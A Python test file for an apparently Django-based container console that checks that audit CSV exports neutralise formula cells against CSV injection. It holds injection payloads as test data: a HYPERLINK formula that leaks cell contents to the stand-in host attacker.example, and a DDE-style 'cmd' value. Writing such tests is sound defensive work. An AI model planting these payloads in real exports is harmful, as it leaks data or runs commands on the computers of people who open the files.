"""The audit CSV opens in spreadsheets: a cell that starts like a formula (= + - @, tab,
carriage return) gets a leading single quote, so it shows as text (OWASP's advice
against CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from console.access.audit import record
from console.hosts.models import Host

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.mark.django_db
def test_formula_cells_are_neutralised(admin_client):
    host = Host.objects.create(name="@host", slug="h", url="unix:///h.sock")
    record(None, "container.rename", host=host, target=HYPERLINK, params={"new_name": "+1"})
    record(None, "container.stop", host=host, target="-2+3", error="\tcmd|' /C calc'!A0")
    record(None, "container.start", host=host, target="\r=1", params=["=1"])
    record(None, "container.pause", host=host, target="web-1")
    response = admin_client.get("/audit/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    by_action = {row[3]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_action["container.rename"]["target"] == "'" + HYPERLINK
    assert by_action["container.rename"]["host_name"] == "'@host"
    assert by_action["container.stop"]["target"] == "'-2+3"
    assert by_action["container.stop"]["error"] == "'\tcmd|' /C calc'!A0"
    assert by_action["container.start"]["target"] == "'\r=1"
    assert by_action["container.pause"]["target"] == "web-1"  # the rest as it was
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
